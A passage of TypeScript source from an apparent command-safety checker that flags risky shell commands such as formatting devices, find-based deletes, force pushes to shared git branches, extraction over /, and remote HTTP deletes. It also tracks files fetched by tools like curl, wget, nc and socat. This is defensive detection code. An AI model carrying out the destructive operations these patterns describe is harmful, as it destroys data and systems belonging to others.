    if (!a.text.includes("=") && k < args.length && !args[k]!.text.startsWith("-")) {
      moved.push(args[k++]!);
      took = true;
    }
  }
  return took && k < args.length ? [...args.slice(k), ...moved] : null;
}

/** Verbs of infrastructure and migration CLIs (cli_verbs.ts), after global options too, and of scripts run by an interpreter (`python manage.py migrate app zero`). */
function judgeCliVerbs(ctx: JudgeContext, name: string, generic = false): void {
  const runs: [string, JudgedArg[]][] = [[name, ctx.args]];
  const moved = afterGlobalOptions(ctx.args);
  if (moved) runs.push([name, moved]);
  if (interpreterLanguage(name) !== null) {
    const k = ctx.args.findIndex((a) => !a.text.startsWith("-"));
    if (k >= 0 && !ctx.args.slice(0, k).some((a) => /^-[A-Za-z]*[cmeE]$/.test(a.text)))
      runs.push([posix.basename(ctx.args[k]!.text), ctx.args.slice(k + 1)]);
  }
  for (const [tool, args] of runs) for (const key of cliVerbEffects(tool, args, generic)) add(ctx, key);
  if (!generic && moved && DB_RESET.test(`${name} ${moved.map((a) => a.text).join(" ")}`)) add(ctx, "sql_drop");
}

/**
 * Modes that change nothing: a help or version request before any `--` (the program prints and exits; not for shells,
 * interpreters and wrappers, whose later words are a script's arguments), and each tool's own test, check or no-act
 * flag (`mke2fs -n`, LVM `-t`/`--test`, `nft -c`, `iptables-restore -t`, `sfdisk -n`, `wipefs -n`, `fsck -N`, `e2fsck -n`).
 */
function onlyChecksOrHelps(ctx: JudgeContext, name: string): boolean {
  const texts = ctx.args.map((a) => a.text);
  const end = texts.indexOf("--");
  const before = end >= 0 ? texts.slice(0, end) : texts;
  const runsOthers =
    SHELLS.has(name) ||
    interpreterLanguage(name) !== null ||
    /^(?:sudo|doas|env|xargs|parallel|ssh|docker|podman|kubectl|oc|nohup|nice|timeout|watch|time|exec|command|builtin|eval|source|\.|su|runuser|chroot|nsenter|unshare|setsid|stdbuf|strace|ltrace|gdb|valgrind|flock|systemd-run|script|expect|tmux|screen|make|npx|npm|yarn|pnpm|bunx|deno|uv|poetry|pipenv|conda|find|fd|git|sh|salt|ansible|pdsh|fab|pyinfra)$/.test(
      name,
    );
  // An interpreter running a script (not code given by -c/-e/-r, not a module of -m) with --help: the script prints its usage.
  const lang = interpreterLanguage(name);
  if (
    lang !== null &&
    lang !== "awk" &&
    before.includes("--help") &&
    !before.some((t) => /^-[A-Za-z]*[cerER]$|^--eval$|^-p$/.test(t)) &&
    before.some((t) => /\.(?:py|rb|pl|php|js|mjs|ts|lua|R|jl|exs)$/.test(t))
  )
    return true;
  if (
    !runsOthers &&
    before.some(
      (t, k) =>
        (t === "--help" || t === "--version") && !/^-(?:c|e|ex|-eval|-command|-execute)$/.test(before[k - 1] ?? ""),
    )
  )
    return true;
  const flag = (short: string, long: string[] = []) =>
    before.some(
      (t) => long.includes(t) || (new RegExp(`^-[A-Za-z]*[${short}][A-Za-z]*$`).test(t) && !t.startsWith("--")),
    );
  if (
    (/^(?:mke2fs|mkfs\.ext[234])$/.test(name) ||
      (name === "mkfs" && /^ext[234]$/.test(texts[texts.indexOf("-t") + 1] ?? ""))) &&
    flag("n")
  )
    return true;
  if (
    /^(?:lv|vg|pv)(?:remove|reduce|create|extend|resize|change|rename|convert|split|merge)$/.test(name) &&
    (before.includes("-t") || before.includes("--test"))
  )
    return true;
  if (name === "nft" && (before.includes("-c") || before.includes("--check"))) return true;
  if (/^ip6?tables-restore$/.test(name) && (before.includes("-t") || before.includes("--test"))) return true;
  if ((name === "sfdisk" || name === "wipefs") && (before.includes("-n") || before.includes("--no-act"))) return true;
  if (name === "fsck" && before.includes("-N")) return true;
  if (/^(?:e2fsck|fsck\.ext[234])$/.test(name) && before.includes("-n")) return true;
  return false;
}

/** sqlite3 on a database file inside the working directory: its tables are the task's own (like deleting a workspace file). */
function sqliteInWorkdir(ctx: JudgeContext, name: string, sql: string): boolean {
  // Only with the task's working directory known: without it a relative path may be anyone's database.
  if ((name !== "sqlite3" && name !== "sqlite") || !ctx.root) return false;
  if (/\battach\b|\bvacuum\s+into\b|\.(?:shell|system|once|output)\b/i.test(sql)) return false;
  const args = ctx.args;
  for (let k = 0; k < args.length; k++) {
    const t = args[k]!.text;
    if (/^-(?:cmd|separator|newline|nullvalue|init|vfs|mmap|pagecache|lookaside|maxsize|heap|zip)$/.test(t)) {
      k++;
      continue;
    }
    if (t.startsWith("-")) continue;
    if (!args[k]!.literal) return false;
    return t === ":memory:" || whereIn(ctx, t) === "inside";
  }
  return false;
}

/** The text a command writes to its stdout when it is a literal (echo/printf, cat of a literal here-document); null otherwise. */
function writtenText(ctx: JudgeContext): string | null {
  const heredoc = ctx.redirects.find((r) => r.body !== undefined);
  return producedLiteral({ name: ctx.name, args: ctx.args, body: heredoc?.body, bodyLiteral: heredoc?.literal });
}

/** Files another program runs later on its own (git and husky hooks): what is written there is judged as if it ran. */
const HOOK_FILE = /(?:^|\/)(?:\.git\/(?:modules\/[^/]+\/)?hooks|\.husky)\/(?!_\/)[\w.-]+$/;

function noteScript(ctx: JudgeContext, target: string, append: boolean, text: string | null): void {
  if (target && HOOK_FILE.test(target) && !/\.sample$/.test(target)) {
    if (text === null) add(ctx, "shell_input");
    else ctx.analyseShell(decodeEscapes(text));
  }
  if (!target || /^\/dev\//.test(target) || ctx.scripts.size >= 64) return;
  const key = posix.normalize(target);
  const before = append ? ctx.scripts.get(key) : "";
  ctx.scripts.set(key, before === null || text === null ? null : (before ?? "") + text);
}

function writtenScript(ctx: JudgeContext, path: string): string | null | undefined {
  return ctx.scripts.get(posix.normalize(path));
}

/** mkfs on an image file in the working directory is harmless; on a device or an unknown target it is not. */
function judgeFormat(ctx: JudgeContext): void {
  // A device anywhere in the words is the target, however the options parse.
  if (ctx.args.some((a) => /^\/dev\/(?!null$|zero$|stdout$|stderr$)/.test(a.text)))
    return add(ctx, "format_filesystem");
  const fs = (
    ctx.args.find((a, k) => ctx.args[k - 1]?.text === "-t")?.text ?? ctx.name.replace(/^mkfs\.?/, "")
  ).toLowerCase();
  // Options taking a value differ by file system (-F, -n, -C are flags for ext, values for vfat).
  const valueOpts =
    /^(?:ext\d|mke2fs)$/.test(fs) || ctx.name === "mke2fs"
      ? "bCdEgGiIJlLmMNoOrtTUez"
      : /^(?:vfat|fat|msdos|mkdosfs)$/.test(fs) || ctx.name === "mkdosfs"
        ? "bDfFghimnrRsSt"
        : fs === "xfs"
          ? "bdilnprsLmt"
          : fs === "btrfs"
            ? "bdmnsLORrUt"
            : "tLbCNIOUEgGjJlmMoTrSpd";
  const ops = operands(ctx.args, valueOpts, [
    "--type",
    "--label",
    "--uuid",
    "--features",
    "--rootdir",
    "--byte-count",
    "--data",
    "--metadata",
    "--nodesize",
    "--sectorsize",
  ]);
  const target = ops.find((o) => !/^\d+$/.test(o.text));
  if (!target) return add(ctx, "format_filesystem");
  const w = whereIn(ctx, target.text);
  if (w === "inside" || w === "scratch") return;
  add(ctx, "format_filesystem");
}

const FETCHERS = /^(?:curl|wget|base64|base32|basenc|xxd|openssl|gpg2?|uudecode|aria2c|scp|rsync|nc|ncat|socat)$/;

/** Remembers files written with downloaded or decoded content: `curl -o x.sh …`, `base64 -d > x.sh`. */
function notefetched(ctx: JudgeContext): void {
  const fromPipe = ctx.producer && FETCHERS.test(ctx.producer.name);
  if (FETCHERS.test(ctx.name) || fromPipe) {
    for (const r of ctx.redirects)
      if ((r.op === ">" || r.op === ">>") && !r.fd) ctx.fetched.add(fetchKey(ctx, r.target));
    const o = ctx.args.findIndex(
      (a) =>
        /^-[A-Za-z]*[oO]$/.test(a.text) ||
        a.text === "--output" ||
        a.text === "--output-document" ||
        a.text === "--out",
    );
    if (o >= 0 && ctx.args[o + 1]) ctx.fetched.add(fetchKey(ctx, ctx.args[o + 1]!.text));
    // aria2c -d DIR -o NAME (also --dir=DIR, --out=NAME) saves DIR/NAME.
    if (ctx.name === "aria2c") {
      const texts = ctx.args.map((a) => a.text);
      const d = texts.findIndex((t) => t === "-d" || t === "--dir");
      const dir = d >= 0 ? texts[d + 1] : texts.find((t) => t.startsWith("--dir="))?.slice(6);
      const out = o >= 0 ? ctx.args[o + 1]?.text : texts.find((t) => t.startsWith("--out="))?.slice(6);
      if (dir && out) ctx.fetched.add(fetchKey(ctx, posix.join(dir, out)));
    }
    // wget without -O, curl -O / --remote-name: each URL is saved under its basename (wget: under -P DIR).
    const texts = ctx.args.map((a) => a.text);
    const remoteName =
      ctx.name === "wget"
        ? !texts.some((t) => /^-[A-Za-z]*O|^--output-document/.test(t))
        : ctx.name === "curl" && texts.some((t) => /^-[A-Za-z]*O[A-Za-z]*$|^--remote-name(?:-all)?$/.test(t));
    if (remoteName) {
      const p = texts.findIndex((t) => t === "-P" || t === "--directory-prefix");
      const dir =
        p >= 0
          ? texts[p + 1]
          : texts.find((t) => t.startsWith("--directory-prefix="))?.slice("--directory-prefix=".length);
      for (const t of texts) {
        const base = /^(?:https?|ftp):\/\/[^/?#]+\/(?:[^?#]*\/)?([^/?#]+)(?:[?#].*)?$/i.exec(t)?.[1];
        if (base && ctx.fetched.size < 64) ctx.fetched.add(fetchKey(ctx, dir ? posix.join(dir, base) : base));
      }
    }
  }
  if (ctx.name === "tee" && fromPipe) for (const op of operands(ctx.args)) ctx.fetched.add(fetchKey(ctx, op.text));
  // `git clone URL [DIR]` (also hg/svn/fossil): everything under DIR came from the network.
  if (/^(?:git|hg|svn|fossil)$/.test(ctx.name) && ctx.fetched.size < 64) {
    const texts = ctx.args.map((a) => a.text);
    const at = texts.findIndex((t) => t === "clone" || t === "checkout" || t === "co");
    if (at < 0 || (ctx.name === "git" && texts[at] !== "clone")) return;
    const ops = operands(ctx.args.slice(at + 1), "bcoju", [
      "--branch",
      "--config",
      "--origin",
      "--depth",
      "--reference",
      "--separate-git-dir",
      "--upload-pack",
      "--template",
      "--filter",
      "--jobs",
    ]).map((a) => a.text);
    const url = ops[0];
    if (url === undefined) return;
    const dir =
      ops[1] ??
      url
        .replace(/[?#].*$/, "")
        .replace(/\/+$/, "")
        .replace(/\.git$/, "")
        .split(/[/:]/)
        .pop() ??
      "";
    if (dir) ctx.fetched.add(fetchKey(ctx, dir).replace(/\/*$/, "/"));
  }
}

/** A path as the fetched-files record keys it: joined to the directory the command runs in. */
function fetchKey(ctx: JudgeContext, path: string): string {
  return posix.normalize(
    path.startsWith("/") || ctx.cwd === "." || /^[~$]/.test(path) ? path : posix.join(ctx.cwd, path),
  );
}

/** A file this command line downloaded or decoded, or one under a directory it cloned. */
function isFetched(ctx: JudgeContext, path: string): boolean {
  if (!ctx.fetched.size) return false;
  const key = fetchKey(ctx, path);
  if (ctx.fetched.has(key)) return true;
  for (const f of ctx.fetched)
    if (f.endsWith("/") && (key.startsWith(f) || (f === "./" && !/^(?:\/|\.\.(?:\/|$)|[~$])/.test(key)))) return true;
  return false;
}

/** `python -c CODE`, `perl -e CODE`, `awk 'PROGRAM'`, … */
function judgeInlineInterpreter(ctx: JudgeContext, lang: CodeLanguage): void {
  const args = ctx.args;
  if (lang === "awk") {
    let i = 0;
    let program: JudgedArg | undefined;
    for (; i < args.length; i++) {
      const a = args[i]!.text;
      if (a === "-f" || a.startsWith("--file")) return; // program from a file
      if (a === "-F" || a === "-v" || a === "--assign" || a === "--field-separator") {
        i++;
        continue;
      }
      if (a === "--") {
        program = args[i + 1];
        break;
      }
      if (a.startsWith("-")) continue;
      program = args[i];
      break;
    }
    if (program) feedLiteralCode(ctx, "awk", program);
    return;
  }
  if (ctx.name === "deno" && args[0]?.text === "eval") {
    const code = args.slice(1).find((a) => !a.text.startsWith("-"));
    if (code) feedLiteralCode(ctx, lang, code);
    return;
  }
  const flag =
    lang === "python"
      ? /^-[A-Za-z]*c$/
      : lang === "php"
        ? /^-[A-Za-z]*[rR]$/
        : lang === "r" || lang === "lua"
          ? /^-[A-Za-z]*e$/
          : /^-[A-Za-z]*[eE]$|^--eval$|^-p$|^--print$/;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (flag.test(a.text) && args[i + 1]) {
      feedLiteralCode(ctx, lang, bindArgv(lang, args[i + 1]!, args.slice(i + 2)));
      i++;
    } else if (lang === "python" && /^-[A-Za-z]*c./.test(a.text) && !a.text.startsWith("--")) {
      feedLiteralCode(ctx, lang, { ...a, text: a.text.replace(/^-[A-Za-z]*?c/, "") });
    } else if (!a.text.startsWith("-") && lang !== "node") break;
  }
}

/**
 * The program's own arguments read where the code names them (`python -c '…shutil.rmtree(sys.argv[1])' "$scratch"`,
 * `ruby -e '…ARGV[0]…' x`, `perl -e '…$ARGV[0]…' x`, `node -e '…process.argv[1]…' x`): the words after the program.
 */
function bindArgv(lang: CodeLanguage, code: JudgedArg, rest: JudgedArg[]): JudgedArg {
  const words = rest.filter((a) => a.text !== "--");
  if (!words.length || code.literal === false) return code;
  const value = (k: number) => {
    const a = words[k];
    return a && !/\$|`/.test(a.text) ? JSON.stringify(a.text) : null;
  };
  const sub = (re: RegExp, offset: number) => (text: string) =>
    text.replace(re, (m, n: string) => value(Number(n) - offset) ?? m);
  const text =
    lang === "python"
      ? sub(/\bsys\.argv\[(\d+)\]/g, 1)(code.text)
      : lang === "ruby"
        ? sub(/\bARGV\[(\d+)\]/g, 0)(code.text)
        : lang === "perl"
          ? sub(/\$ARGV\[(\d+)\]/g, 0)(code.text)
          : lang === "node"
            ? sub(/\bprocess\.argv\[(\d+)\]/g, 1)(code.text)
            : code.text;
  return text === code.text ? code : { ...code, text };
}

function feedLiteralCode(ctx: JudgeContext, lang: CodeLanguage, code: JudgedArg): void {
  // The program itself comes from an expansion (`perl -e "$CODE"`): nothing to read.
  if (!code.literal && /^\s*(?:\$|`)/.test(code.text)) return add(ctx, "inline_code_unanalysable");
  analyseInlineCode(lang, code.text, ctx, code.literal);
}

/** `find ROOTS … -delete` / `-exec rm`: a delete at the roots, judged like `rm -r`. */
function judgeFind(ctx: JudgeContext): void {
  const args = ctx.args;
  const roots: string[] = [];
  let k = 0;
  while (k < args.length && /^-[HLP]$|^-O\d$/.test(args[k]!.text)) k++;
  for (; k < args.length && !/^[-(!]/.test(args[k]!.text); k++) roots.push(args[k]!.text);
  if (!roots.length) roots.push(".");
  const texts = args.map((a) => a.text);
  // Every file of the whole file system copied (`find / -type f -exec cp {} ./copy/ \;`): the disk fills.
  const depthCut =
    texts.some((t, i) => /^-(?:maxdepth)$/.test(t) && Number(texts[i + 1]) <= 3) ||
    texts.some((t) => /^-(?:i?name|i?path|i?regex|newer|size|user|group|perm)$/.test(t));
  if (
    roots.some((r) => /^\/+$|^\/\*$/.test(r)) &&
    !depthCut &&
    texts.some(
      (t, i) =>
        /^-(?:exec|execdir)$/.test(t) && /(?:^|\/)(?:cp|rsync|tar|zip|install|ditto|gzip)$/.test(texts[i + 1] ?? ""),
    )
  )
    return add(ctx, "resource_exhaustion");
  const deletes = texts.includes("-delete");
  const execRm = texts.some(
    (t, i) => /^-(?:exec|execdir|ok|okdir)$/.test(t) && /(?:^|\/)(?:rm|shred|unlink)$/.test(texts[i + 1] ?? ""),
  );
  if (!deletes && !execRm) return;
  const key = deletes ? "find_delete" : "find_exec_rm";
  // A test run by -exec (`! -exec test -e {} \;`, `-exec grep -q … {} \;`) is a predicate that narrows the match too.
  const filtered = texts.some(
    (t, i) =>
      /^-(?:i?name|i?path|i?wholename|i?regex|newer\S*|[acm]time|[acm]min|size|empty|user|group|perm|links|inum|samefile|xtype)$/.test(
        t,
      ) ||
      (/^-(?:exec|execdir)$/.test(t) &&
        /^(?:test|\[|grep|file|cmp|diff|stat|git)$/.test(texts[i + 1] ?? "") &&
        (texts[i + 1] !== "grep" || texts.slice(i + 2).some((x) => /^-[a-zA-Z]*[qlL]/.test(x)))),
  );
  const follow = args.some((a) => a.text === "-L" || a.text === "-H" || a.text === "-follow");
  for (const r of roots) {
    const w = whereIn(ctx, r, follow);
    noteInside(ctx, r);
    if (w === "system" && (!filtered || /^\/+$/.test(r))) return add(ctx, "delete_system_path");
    if (w === "credential") return add(ctx, "credential_write");
    if (w !== "inside" && w !== "scratch") return add(ctx, key);
    if (w === "scratch" && !filtered) return add(ctx, key);
    if (w === "inside" && wholeWorkdir(ctx, r) && !filtered) return add(ctx, key);
  }
}

/** shred overwrites its operands: harmful on devices and outside the working directory, not on a scratch file in it. */
function judgeShred(ctx: JudgeContext): void {
  for (const op of operands(ctx.args, "ns", ["--iterations", "--size", "--random-source"])) {
    const w = whereIn(ctx, op.text);
    noteInside(ctx, op.text);
    if (w !== "inside" && w !== "scratch") return add(ctx, "shred");
  }
}

const PROTECTED_BRANCH =
  /^(?:refs\/heads\/)?(?:main|master|trunk|develop|development|dev|release(?:[-/].*)?|prod(?:uction)?|stable|live|gh-pages|HEAD|@)$/i;

/** git: clean -f acting outside the working directory; force pushes to shared branches; remote branch deletion. */
function judgeGit(ctx: JudgeContext): void {
  const args = ctx.args;
  let dir = ".";
  let i = 0;
  for (; i < args.length; i++) {
    const a = args[i]!.text;
    if (a === "-C" || a === "--git-dir" || a === "--work-tree") {
      const v = args[++i]?.text ?? "";
      if (a !== "--git-dir") dir = dir === "." || v.startsWith("/") ? v : posix.join(dir, v);
    } else if (a.startsWith("--work-tree=")) dir = a.slice("--work-tree=".length);
    else if (a === "-c" || a === "--namespace" || a === "--exec-path") i++;
    else if (!a.startsWith("-")) break;
  }
  const subcommand = args[i]?.text;
  const rest = args.slice(i + 1);
  if (subcommand === "clean") {
    if (!hasFlag(rest, "f", ["--force"]) || hasFlag(rest, "n", ["--dry-run"])) return;
    const paths = operands(rest, "e", ["--exclude"]).map((o) =>
      o.text.startsWith("/") || dir === "." ? o.text : posix.join(dir, o.text),
    );
    for (const p of [dir, ...paths]) {
      const w = whereIn(ctx, p);
      noteInside(ctx, p);
      if (w !== "inside" && w !== "scratch") return add(ctx, "git_clean_force");
    }
    return;
  }
  if (subcommand === "reset") {
    if (!rest.some((a) => a.text === "--hard")) return;
    // To a named feature branch (`origin/feature/ui`): the agent's own branch made to match; to HEAD, a commit,
    // a tag, HEAD~n or a shared branch: local work discarded.
    const target = operands(rest)
      .map((o) => o.text)
      .filter((t) => t !== "--")[0];
    const m = target === undefined ? null : /^(?:refs\/remotes\/)?([\w.-]+)\/([\w./-]+)$/.exec(target);
    if (!m || PROTECTED_BRANCH.test(m[2]!) || /\.\.|\/$/.test(m[2]!)) add(ctx, "git_reset_hard");
    return;
  }
  if (subcommand !== "push") return;
  const texts = rest.map((a) => a.text);
  if (
    hasFlag(
      rest.filter((a) => !a.text.startsWith("--")),
      "n",
    )
  )
    return; // dry run
  const force =
    hasFlag(
      rest.filter((a) => !a.text.startsWith("--")),
      "f",
    ) || texts.some((t) => /^--force(?:-with-lease(?:=.*)?)?$/.test(t));
  const ops = operands(rest, "o", ["--push-option", "--receive-pack", "--exec", "--repo"]).map((o) => o.text);
  const refspecs = ops.slice(1);
  if (texts.some((t) => t === "--mirror" || t === "--prune")) return add(ctx, "git_force_push");
  // Deleting a remote branch: routine for a feature branch (its work is merged or lives on elsewhere); a shared
  // branch (main, release, …), a pattern or a computed name is flagged.
  const deleting = texts.some((t) => t === "--delete" || t === "-d");
  const deleted = deleting
    ? refspecs.map((r) => r.replace(/^\+/, ""))
    : refspecs.filter((r) => r.startsWith(":")).map((r) => r.slice(1));
  if (deleting && !deleted.length) return add(ctx, "git_force_push");
  // A release tag (`v1.0.0`, `2.3.1`) deleted on the remote is a published version gone for everyone.
  for (const d of deleted)
    if (
      d === "" ||
      /\$|`|\*/.test(d) ||
      PROTECTED_BRANCH.test(d.replace(/^refs\/heads\//, "")) ||
      /^refs\/(?!heads\/)/.test(d) ||
      d.includes(":") ||
      /^v?\d+(?:\.\d+)+(?:[-+][\w.]+)?$/.test(d)
    )
      return add(ctx, "git_force_push");
  if (deleted.length) return;
  const forcedRefs = refspecs.filter((r) => force || r.startsWith("+"));
  if (force && (refspecs.length === 0 || texts.includes("--all") || texts.includes("--branches")))
    return add(ctx, "git_force_push");
  for (const r of forcedRefs) {
    const dest = r.replace(/^\+/, "").split(":").pop() ?? "";
    if (dest === "" || /\$|`|\*/.test(dest) || PROTECTED_BRANCH.test(dest)) return add(ctx, "git_force_push");
  }
}

/** Extracting an archive writes into its destination directory (the working directory unless -C/-d/-o says otherwise). */
function judgeArchive(ctx: JudgeContext, name: string): void {
  const args = ctx.args;
  const texts = args.map((a) => a.text);
  if (name === "unzip" || name === "bsdunzip") {
    if (
      hasFlag(
        args.filter((a) => a.text !== "-d"),
        "lvtzZ",
      )
    )
      return;
    const d = texts.indexOf("-d");
    const dest =
      d >= 0
        ? texts[d + 1]
        : /^-d./.test(texts.find((t) => /^-d./.test(t)) ?? "")
          ? texts.find((t) => /^-d./.test(t))!.slice(2)
          : undefined;
    extractInto(ctx, dest);
    return;
  }
  if (name.startsWith("7z")) {
    if (texts[0] !== "x" && texts[0] !== "e") return;
    const o = texts.find((t) => t.startsWith("-o"));
    extractInto(ctx, o?.slice(2));
    return;
  }
  if (name === "cpio") {
    // -i extracts into the working directory (or -D DIR); -p copies the listed files into DIR.
    const bundled = texts
      .filter((t) => /^-[a-zA-Z]+$/.test(t))
      .map((t) => t.slice(1))
      .join("");
    let dir: string | undefined;
    for (let k = 0; k < texts.length; k++) {
      if (texts[k] === "-D" || texts[k] === "--directory") dir = texts[k + 1];
      else if (texts[k]!.startsWith("--directory=")) dir = texts[k]!.slice(12);
    }
    if (/t/.test(bundled) || texts.includes("--list")) return;
    if (/i/.test(bundled) || texts.includes("--extract")) return extractInto(ctx, dir);
    if (/p/.test(bundled) || texts.includes("--pass-through"))
      extractInto(ctx, dir ?? operands(args, "DEFHIMORV", ["--directory", "--format", "--file"])[0]?.text);
    return;
  }
  // tar: the mode is in the first word (`xf`, `-xzf`) or a long option.
  const first = texts[0] ?? "";
  const bundled = /^-?[A-Za-z]+$/.test(first) && !first.startsWith("--") ? first.replace(/^-/, "") : "";
  const flags = [
    bundled,
    ...texts
      .slice(1)
      .filter((t) => /^-[A-Za-z]+$/.test(t))
      .map((t) => t.slice(1)),
  ].join("");
  const extract = /x/.test(flags) || texts.some((t) => t === "--extract" || t === "--get");
  const create = /[cru]/.test(flags) || texts.some((t) => t === "--create" || t === "--append" || t === "--update");
  if (create && texts.includes("--remove-files")) {
    for (const op of operands(args.slice(bundled ? 1 : 0), "fCbHKLNTVX", [
      "--file",
      "--directory",
      "--exclude",
      "--files-from",
      "--transform",
    ]))
      judgeDelete(ctx, op.text, true);
  }
  if (!extract) return;
  if (/P/.test(flags) || texts.includes("--absolute-names")) return add(ctx, "overwrite_outside_workdir");
  let dest: string | undefined;
  for (let k = 0; k < texts.length; k++) {
    const t = texts[k]!;
    if (t === "-C" || t === "--directory") dest = texts[k + 1];
    else if (t.startsWith("--directory=")) dest = t.slice("--directory=".length);
    else if (/^-C./.test(t)) dest = t.slice(2);
  }
  extractInto(ctx, dest);
}

/** Files extracted into `dest` (the working directory when not given): at `/` they overwrite system files. */
function extractInto(ctx: JudgeContext, dest: string | undefined): void {
  const p = dest ?? ".";
  // A downloaded archive (`curl -LO …/tool.tar.gz && tar xzf tool.tar.gz`, `curl … | tar xz`): what it unpacks came
  // from the network, so running a file from there runs downloaded code.
  const fromNetwork =
    ctx.args.some((a) => !a.text.startsWith("-") && isFetched(ctx, a.text)) ||
    (ctx.producer != null &&
      FETCHERS.test(ctx.producer.name) &&
      !ctx.args.some((a) => /\.(?:tar|tgz|zip|gz|xz|bz2|zst|7z)$/.test(a.text) && !isFetched(ctx, a.text)));
  if (fromNetwork && ctx.fetched.size < 64) ctx.fetched.add(fetchKey(ctx, p).replace(/\/*$/, "/"));
  const abs = p.startsWith("/") ? posix.normalize(p) : ctx.cwd.startsWith("/") ? posix.join(ctx.cwd, p) : null;
  if (abs === "/") return add(ctx, "system_config_write");
  judgeOverwrite(ctx, abs ?? p);
}

/**
 * `ansible HOSTS -m MODULE -a ARGS`: the module's effect on every host matched (paths there are none of
 * the task's). command/shell/raw run ARGS; file state=absent deletes; copy/template/lineinfile write their dest;
 * reboot, service stop, user, package absent, mount, firewall, cron and sysctl change system state.
 * `--check` (-C) only reports.
 */
function judgeAnsible(ctx: JudgeContext): void {
  const texts = ctx.args.map((a) => a.text);
  let module = "command";
  let moduleArgs = "";
  for (let k = 0; k < texts.length; k++) {
    const t = texts[k]!;
    if (t === "-C" || t === "--check") return;
    if (t === "-m" || t === "--module-name") module = texts[++k] ?? "";
    else if (t.startsWith("--module-name=")) module = t.slice(14);
    else if (/^-m./.test(t)) module = t.slice(2);
    else if (t === "-a" || t === "--args") moduleArgs = texts[++k] ?? "";
    else if (t.startsWith("--args=")) moduleArgs = t.slice(7);
  }
  module = module.replace(/^ansible\.(?:builtin|posix|windows)\./, "");
  const kv = new Map<string, string>();
  for (const m of moduleArgs.matchAll(/(\w+)=("[^"]*"|'[^']*'|\S+)/g))
    kv.set(m[1]!.toLowerCase(), m[2]!.replace(/^(["'])(.*)\1$/, "$2"));
  const state = (kv.get("state") ?? "").toLowerCase();
  const path = kv.get("path") ?? kv.get("dest") ?? kv.get("name");
  switch (module) {
    case "command":
    case "shell":
    case "raw":
    case "win_shell":
    case "win_command":
      if (moduleArgs)
        ctx.analyseShell(moduleArgs.replace(/^(?:\s*(?:chdir|creates|removes|executable|warn|stdin)=\S+)+\s*/, ""));
      return;
    case "script":
      return add(ctx, "shell_input");
    case "file":
      if (path === undefined) return;
      if (state === "absent") return judgeDelete(ctx, path, true);
      if (kv.has("mode") || kv.has("owner") || kv.has("group")) {
        const w = whereIn(ctx, path);
        if (w === "system" || w === "credential") add(ctx, "chmod_chown_system");
        else if (w !== "inside" && w !== "scratch") add(ctx, "chmod_outside_workdir");
      }
      return;
    case "copy":
    case "template":
    case "lineinfile":
    case "blockinfile":
    case "replace":
    case "get_url":
    case "unarchive":
      if (path !== undefined) judgeOverwrite(ctx, path);
      return;
    case "reboot":
    case "win_reboot":
      return add(ctx, "reboot_shutdown");
    case "service":
    case "systemd":
    case "systemd_service":
    case "sysvinit":
      if (
        state === "stopped" ||
        /^(?:no|false)$/i.test(kv.get("enabled") ?? "") ||
        /^(?:yes|true)$/i.test(kv.get("masked") ?? "")
      )
        add(ctx, "stop_service");
      return;
    case "user":
    case "group":
    case "authorized_key":
      return add(ctx, "user_change");
    case "apt":
    case "yum":
    case "dnf":
    case "package":
    case "pacman":
    case "zypper":
    case "apk":
      if (state === "absent" || state === "removed") add(ctx, "package_remove");
      return;
    case "mount":
      return add(ctx, "mount_change");
    case "iptables":
    case "ufw":
    case "firewalld":
      return add(ctx, "firewall_change");
    case "cron":
      return add(ctx, "crontab_replace");
    case "sysctl":
    case "modprobe":
      return add(ctx, "kernel_change");
  }
}

const LOCAL_HOST = /^(?:localhost|[\w.-]+\.localhost|127(?:\.\d+){3}|0\.0\.0\.0|\[::1?\]|::1)$/i;

/**
 * `curl -X DELETE URL`, `wget --method=DELETE`, `http DELETE URL`: a resource deleted on another host (not the
 * task's own), or a whole index or collection anywhere (`/logs-*`, `/_all`, a top-level path). One item of a
 * local development API (`localhost:8000/api/items/3`) is the task's own.
 */
function judgeHttpDelete(ctx: JudgeContext, name: string): void {
  const texts = ctx.args.map((a) => a.text);
  let del = false;
  for (let k = 0; k < texts.length; k++) {
    const t = texts[k]!;
    if (name === "curl" && (/^-[a-zA-Z]*X$/.test(t) || t === "--request") && /^delete$/i.test(texts[k + 1] ?? ""))
      del = true;
    else if (name === "curl" && /^(?:-[a-zA-Z]*X|--request=)delete$/i.test(t)) del = true;
    else if (
      name === "wget" &&
      (/^--method=delete$/i.test(t) || (t === "--method" && /^delete$/i.test(texts[k + 1] ?? "")))
    )
      del = true;
    else if (name !== "curl" && name !== "wget" && /^delete$/i.test(t)) del = true;
  }
  // Elasticsearch/OpenSearch `_delete_by_query` with match_all (or no query): every document of the index, whatever the method.
  if (texts.some((t) => /\/_delete_by_query\b/.test(t))) {
    const body = texts
      .filter(
        (t, k) =>
          /^-(?:d|-data(?:-raw|-binary|-ascii)?)$/.test(texts[k - 1] ?? "") || /^--data(?:-raw|-binary)?=/.test(t),
      )
      .join(" ");
    if (!body || /match_all|"query"\s*:\s*\{\s*\}/.test(body) || /[?&]q=\*/.test(texts.join(" ")))
      return add(ctx, "http_delete");
  }
  // A purge-everything body or endpoint, whatever the method: Solr `<delete><query>*:*</query></delete>` (or its JSON
  // form), a CDN's `purge_everything` / `purge_all`, a queue's or cache's purge-all endpoint.
  const joined = texts.join(" ");
  if (
    /<delete>\s*<query>\s*\*:\*\s*<\/query>|"delete"\s*:\s*\{\s*"query"\s*:\s*"\*:\*"|stream\.body=<delete>/i.test(
      joined,
    )
  )
    return add(ctx, "http_delete");
  if (
    /"purge_everything"\s*:\s*true|purge_everything=true|\/purge_?all\b|\/purge-all\b|\/_flush_?all\b|\/flushall\b/i.test(
      joined,
    )
  )
    return add(ctx, "cache_flush");
  if (!del) return;
  const urls = texts.filter(
    (t) =>
      /^(?:https?:\/\/|(?:localhost|\d+(?:\.\d+){3}|[\w-]+(?:\.[\w-]+)+|\$\{?\w+\}?)(?::\d+)?(?:\/|$))/i.test(t) ||
      (name !== "curl" && name !== "wget" && /^:\d*\//.test(t)),
  );
  if (!urls.length) return add(ctx, "http_delete");
  for (const u of urls) {
    const m = /^(?:https?:\/\/)?(?:[^@/]*@)?(\[[^\]]*\]|[^/:?#]*)(?::\d+)?([^?#]*)/i.exec(
      u.startsWith(":") ? `localhost${u}` : u,
    )!;
    const host = m[1]!;
    const segments = m[2]!.split("/").filter(Boolean);
    // The last segment named right after a collection word (`/indexes/movies`, `/collections/docs`, `/v1/buckets/b`,
    // `/zones/Z`, `/api/v2/databases/db`): the whole index, collection, bucket or database, not one of its items.
    const container =
